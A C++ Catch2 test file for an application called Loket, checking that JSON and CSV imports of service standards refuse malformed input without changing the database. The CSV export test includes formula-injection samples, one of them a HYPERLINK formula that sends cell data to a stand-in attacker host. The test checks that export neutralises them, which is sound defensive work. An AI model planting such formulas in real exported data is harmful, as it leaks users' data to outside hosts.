// SPDX-FileCopyrightText: 2026 Loket developers
// SPDX-License-Identifier: GPL-3.0-or-later
// Imports that cannot hurt: a wrong type (null included) is refused with its
// JSON path, a version in force is deleted only when the file says so, and a
// dry run meets every check the import meets — each refusal leaves the
// database exactly as it was.
#include "core/common/Csv.h"
#include "core/standards/DemoStandards.h"
#include "core/standards/StandardService.h"
#include "core/standards/StandardsCsv.h"
#include "core/standards/StandardsJson.h"
#include "tests/core/standards/StandardFixtures.h"

#include <catch2/catch.hpp>

#include <QCryptographicHash>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSqlQuery>
#include <QSqlRecord>

using namespace loket;
using namespace loket::test;

namespace {

const QDateTime kNow(QDate(2026, 11, 23), QTime(2, 0), Qt::UTC);

// Every row of every table, hashed: "the database is unchanged" means this is equal.
QByteArray fingerprint(const TempDatabase &t)
{
    return loket::test::fingerprint(*t.db());
}

int count(const TempDatabase &t, const char *table)
{
    return t.scalar(QStringLiteral("SELECT count(*) FROM %1").arg(QLatin1String(table))).toInt();
}

struct Office {
    ManualClock clock { kNow };
    TempDatabase t;
    Office()
    {
        for (const QString &code : demoStandardCodes())
            REQUIRE(addService(t, code, QStringLiteral("Layanan ") + code) > 0);
        REQUIRE(seedDemoStandards(t.db(), Actor::system(), clock).ok());
    }
    QJsonObject exported() const
    {
        auto json = StandardsJson(t.db(), clock).exportJson(supervisor());
        REQUIRE(json.ok());
        return QJsonDocument::fromJson(json.value()).object();
    }
    Result<StandardsImportReport> import(const QJsonObject &file, bool dryRun = false) const
    {
        return StandardsJson(t.db(), clock).importJson(supervisor(), QJsonDocument(file).toJson(), dryRun);
    }
};

QJsonValue setAt(QJsonValue node, QList<QVariant> path, const QJsonValue &value)
{
    if (path.isEmpty())
        return value;
    const QVariant key = path.takeFirst();
    if (key.typeId() == QMetaType::Int) {
        QJsonArray a = node.toArray();
        a[key.toInt()] = setAt(a.at(key.toInt()), path, value);
        return a;
    }
    QJsonObject o = node.toObject();
    o[key.toString()] = setAt(o.value(key.toString()), path, value);
    return o;
}

QJsonObject edited(const QJsonObject &file, const QList<QVariant> &path, const QJsonValue &value)
{
    return setAt(file, path, value).toObject();
}

// The import and its dry run both refuse, naming `path`, and change nothing.
void refusedAt(const Office &o, const QJsonObject &file, const QString &path)
{
    INFO(path.toStdString());
    const QByteArray before = fingerprint(o.t);
    for (bool dryRun : { true, false }) {
        auto r = o.import(file, dryRun);
        REQUIRE_FALSE(r.ok());
        CHECK(r.error().code == ErrorCode::InvalidInput);
        CHECK(r.error().message.contains(path + QLatin1Char(':')));
        CHECK(fingerprint(o.t) == before);
    }
}

int indexOfSet(const QJsonObject &file, const QString &code)
{
    const QJsonArray standards = file.value(QStringLiteral("standards")).toArray();
    for (qsizetype i = 0; i < standards.size(); ++i) {
        const QJsonObject v = standards.at(i).toObject();
        if (v.value(QStringLiteral("service_code")).toString() == code
            && v.value(QStringLiteral("status")).toString() == QLatin1String("set"))
            return int(i);
    }
    return -1;
}

} // namespace

TEST_CASE("\"standards\": null is refused, not read as an empty list that deletes every version")
{
    Office o;
    const int versions = count(o.t, "standard_versions");
    REQUIRE(versions > 0);
    refusedAt(o, edited(o.exported(), { QStringLiteral("standards") }, QJsonValue::Null), QStringLiteral("standards"));
    CHECK(count(o.t, "standard_versions") == versions);
}

TEST_CASE("\"publications\": null is refused and the publications and reviews stay")
{
    Office o;
    const int publications = count(o.t, "standard_publications");
    const int reviews = count(o.t, "standard_reviews");
    REQUIRE(publications > 0);
    REQUIRE(reviews > 0);
    refusedAt(
        o, edited(o.exported(), { QStringLiteral("publications") }, QJsonValue::Null), QStringLiteral("publications"));
    refusedAt(o, edited(o.exported(), { QStringLiteral("reviews") }, QJsonValue::Null), QStringLiteral("reviews"));
    QJsonObject missing = o.exported();
    missing.remove(QStringLiteral("consultations"));
    refusedAt(o, missing, QStringLiteral("consultations"));
    CHECK(count(o.t, "standard_publications") == publications);
    CHECK(count(o.t, "standard_reviews") == reviews);
}

TEST_CASE("a wrong type, null included, is refused with its JSON path")
{
    Office o;
    const QJsonObject good = o.exported();
    const int set = indexOfSet(good, QStringLiteral("KK"));
    REQUIRE(set >= 0);
    struct Case {
        QList<QVariant> path;
        QJsonValue value;
        QString where;
    };
    const QList<Case> cases {
        { { QStringLiteral("standards"), set, QStringLiteral("version") }, QStringLiteral("2"),
            QStringLiteral("standards[%1].version").arg(set) },
        { { QStringLiteral("standards"), set, QStringLiteral("decree_date") }, QJsonValue::Null,
            QStringLiteral("standards[%1].decree_date").arg(set) },
        { { QStringLiteral("standards"), set, QStringLiteral("decree_number") }, QJsonValue::Null,
            QStringLiteral("standards[%1].decree_number").arg(set) },
        { { QStringLiteral("standards"), set, QStringLiteral("requirements") }, QJsonObject {},
            QStringLiteral("standards[%1].requirements").arg(set) },
        { { QStringLiteral("standards"), set, QStringLiteral("procedure") }, QJsonValue::Null,
            QStringLiteral("standards[%1].procedure").arg(set) },
        { { QStringLiteral("standards"), set, QStringLiteral("cost") }, QJsonValue::Null,
            QStringLiteral("standards[%1].cost").arg(set) },
        { { QStringLiteral("publications"), 0, QStringLiteral("date") }, 20260105,
            QStringLiteral("publications[0].date") },
        { { QStringLiteral("publications"), 0, QStringLiteral("sippn") }, QJsonValue::Null,
            QStringLiteral("publications[0].sippn") },
        { { QStringLiteral("reviews"), 0, QStringLiteral("notes") }, QJsonValue::Null,
            QStringLiteral("reviews[0].notes") },
        { { QStringLiteral("consultations"), 0, QStringLiteral("groups") }, QJsonValue::Null,
            QStringLiteral("consultations[0].groups") },
        { { QStringLiteral("maklumat") }, QJsonValue::Null, QStringLiteral("maklumat") },
        { { QStringLiteral("replace_in_force") }, QStringLiteral("yes"), QStringLiteral("replace_in_force") },
        { { QStringLiteral("standards"), set, QStringLiteral("requirements"), 0, QStringLiteral("name") },
            QStringLiteral("Akta\u0000lahir"), QStringLiteral("standards[%1].requirements[0].name").arg(set) },
    };
    for (const Case &c : cases)
        refusedAt(o, edited(good, c.path, c.value), c.where);
}

TEST_CASE("an import never deletes a version in force unless the file says replace_in_force")
{
    Office o;
    QJsonObject file = o.exported();
    const int set = indexOfSet(file, QStringLiteral("KTP"));
    REQUIRE(set >= 0);

    // The same file back: nothing is deleted, no flag needed.
    auto same = o.import(file, true);
    REQUIRE(same.ok());
    CHECK(same->deletions.isEmpty());
    CHECK(same->deletedVersions == 0);

    // A file whose KTP version in force says something else.
    file = edited(
        file, { QStringLiteral("standards"), set, QStringLiteral("decree_number") }, QStringLiteral("999/PALSU/2026"));
    const QByteArray before = fingerprint(o.t);
    for (bool dryRun : { true, false }) {
        auto r = o.import(file, dryRun);
        REQUIRE_FALSE(r.ok());
        CHECK(r.error().message.contains(QStringLiteral("replace_in_force")));
        CHECK(r.error().message.contains(QStringLiteral("KTP")));
        CHECK(fingerprint(o.t) == before);
    }

    // Said explicitly: the dry run names what goes, and changes nothing.
    file.insert(QStringLiteral("replace_in_force"), true);
    auto dry = o.import(file, true);
    REQUIRE(dry.ok());
    CHECK(dry->dryRun);
    CHECK(dry->deletedInForce == 1);
    REQUIRE(dry->deletions.size() == 1);
    CHECK(dry->deletions.first().startsWith(QStringLiteral("KTP: ")));
    CHECK(fingerprint(o.t) == before);

    auto real = o.import(file);
    REQUIRE(real.ok());
    CHECK(real->deletedInForce == 1);
    CHECK(o.t.scalar(QStringLiteral("SELECT count(*) FROM standard_versions WHERE decree_number = '999/PALSU/2026'"))
              .toInt()
        == 1);
}

TEST_CASE("the dry run shows the publications and reviews a file would delete")
{
    Office o;
    QJsonObject file = o.exported();
    file.insert(QStringLiteral("publications"), QJsonArray {});
    file.insert(QStringLiteral("reviews"), QJsonArray {});
    const int publications = count(o.t, "standard_publications");
    auto dry = o.import(file, true);
    REQUIRE(dry.ok());
    CHECK(dry->deletedPublications == publications);
    CHECK(dry->deletedReviews == 8);
    CHECK(dry->deletedInForce == 0);
    CHECK(dry->deletions.join(u'\n').contains(QStringLiteral("KTP: ")));
    CHECK(count(o.t, "standard_publications") == publications);
}

TEST_CASE("the dry run refuses what the database would refuse, with a message of Loket's own")
{
    Office o;
    // A rule only the database knows (as a CHECK constraint the reader does not repeat).
    o.t.schema(QStringLiteral("CREATE TRIGGER no_baliho BEFORE INSERT ON standard_publications "
                            "WHEN NEW.medium = 'Baliho' BEGIN SELECT RAISE(ABORT, "
                            "'CHECK constraint failed: medium <> ''Baliho'''); END"));
    QJsonObject file = edited(
        o.exported(), { QStringLiteral("publications"), 0, QStringLiteral("medium") }, QStringLiteral("Baliho"));
    const QByteArray before = fingerprint(o.t);
    for (bool dryRun : { true, false }) {
        INFO(dryRun);
        auto r = o.import(file, dryRun);
        REQUIRE_FALSE(r.ok());
        CHECK(r.error().code == ErrorCode::InvalidInput);
        CHECK_FALSE(r.error().message.contains(QStringLiteral("CHECK constraint")));
        CHECK_FALSE(r.error().message.contains(QStringLiteral("Baliho")));
        CHECK(r.error().detail.contains(QStringLiteral("CHECK constraint failed")));
        CHECK(fingerprint(o.t) == before);
    }
}

TEST_CASE("the CSV dry run writes and rolls back: it refuses what the import refuses")
{
    Office o;
    o.t.schema(QStringLiteral("CREATE TRIGGER no_update BEFORE UPDATE ON standard_versions "
                            "BEGIN SELECT RAISE(ABORT, 'CHECK constraint failed: status'); END"));
    o.t.schema(QStringLiteral("CREATE TRIGGER no_insert BEFORE INSERT ON standard_versions "
                            "BEGIN SELECT RAISE(ABORT, 'CHECK constraint failed: status'); END"));
    const QByteArray csv = Csv::toBytes(QStringLiteral("service_code,component,no,value\r\n"
                                                       "KTP,products,1,KTP-el\r\n"));
    const QByteArray before = fingerprint(o.t);
    for (bool dryRun : { true, false }) {
        auto r = StandardsCsv(o.t.db(), o.clock).importCsv(supervisor(), csv, dryRun);
        REQUIRE_FALSE(r.ok());
        CHECK_FALSE(r.error().message.contains(QStringLiteral("constraint")));
        CHECK(fingerprint(o.t) == before);
    }
}

TEST_CASE("a CSV export guards formulas and imports back as the same text")
{
    Office o;
    const qint64 id = addService(o.t, QStringLiteral("SURAT"), QStringLiteral("Surat keterangan"), QStringLiteral("Z"));
    REQUIRE(id > 0);
    StandardService standards(o.t.db(), o.clock);
    StandardContent c;
    const QStringList nasty { QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")"), QStringLiteral("+1"),
        QStringLiteral("-2"), QStringLiteral("@SUM(A1:A9)"), QStringLiteral("'=already quoted"),
        QStringLiteral("'plain"), QStringLiteral("Akta - asli") };
    for (const QString &n : nasty)
        c.requirements << Requirement { n, DocumentForm::Copy, 1, QStringLiteral("=1+1") };
    REQUIRE(standards.saveDraft(supervisor(), id, c).ok());

    auto bytes = StandardsCsv(o.t.db(), o.clock).exportCsv(supervisor(), QDate(2030, 1, 1));
    REQUIRE(bytes.ok());
    const QString text = Csv::fromBytes(bytes.value());
    CHECK(text.contains(QStringLiteral("\"'=HYPERLINK(")));
    CHECK(text.contains(QStringLiteral(",'+1,")));
    CHECK(text.contains(QStringLiteral(",'-2,")));
    CHECK(text.contains(QStringLiteral(",'@SUM(A1:A9),")));
    CHECK(text.contains(QStringLiteral(",''=already quoted,")));
    CHECK(text.contains(QStringLiteral(",'plain,")));
    CHECK(text.contains(QStringLiteral(",'=1+1")));
    // No cell of the file starts with a formula character.
    for (const QString &bad : { QStringLiteral(",="), QStringLiteral(",+"), QStringLiteral(",-"), QStringLiteral(",@"),
             QStringLiteral(",\"="), QStringLiteral("\n=") })
        CHECK_FALSE(text.contains(bad));

    // Imported back: the draft holds the very same texts.
    auto imported = StandardsCsv(o.t.db(), o.clock).importCsv(supervisor(), bytes.value());
    REQUIRE(imported.ok());
    auto draft = standards.draft(supervisor(), id);
    REQUIRE(draft.ok());
    REQUIRE(draft->has_value());
    QStringList names;
    for (const Requirement &r : draft->value().content.requirements) {
        names << r.name;
        CHECK(r.notes == QLatin1String("=1+1"));
    }
    CHECK(names == nasty);
}

TEST_CASE("a CSV import with a cut line or a control character changes nothing and names the line")
{
    Office o;
    const QByteArray before = fingerprint(o.t);
    StandardsCsv csv(o.t.db(), o.clock);
    const QList<std::pair<QByteArray, QString>> files {
        { "service_code,component,no,value,detail\r\nKTP,products,1,KTP-el,\r\nKTP,products,2,\"Langsun",
            QStringLiteral("Line 3") },
        { "service_code,component,no,value,detail\r\nKTP,products,1,KTP-el,\r\nKTP,products,2,Langsun\r\n",
            QStringLiteral("Line 3") },
        { "service_code,component,no,value\r\nKTP,products,1,KTP\x07-el\r\n", QStringLiteral("line 2") },
        { "service_code,component,no,value\r\nKTP,products,1,\xEF\xBB\xBF\r\n", QStringLiteral("line 2") },
    };
    for (const auto &[bytes, line] : files) {
        INFO(bytes.toStdString());
        CHECK_FALSE(csv.check(bytes).isEmpty());
        for (bool dryRun : { true, false }) {
            auto r = csv.importCsv(supervisor(), bytes, dryRun);
            REQUIRE_FALSE(r.ok());
            CHECK(r.error().message.contains(line));
            CHECK(fingerprint(o.t) == before);
        }
    }
}
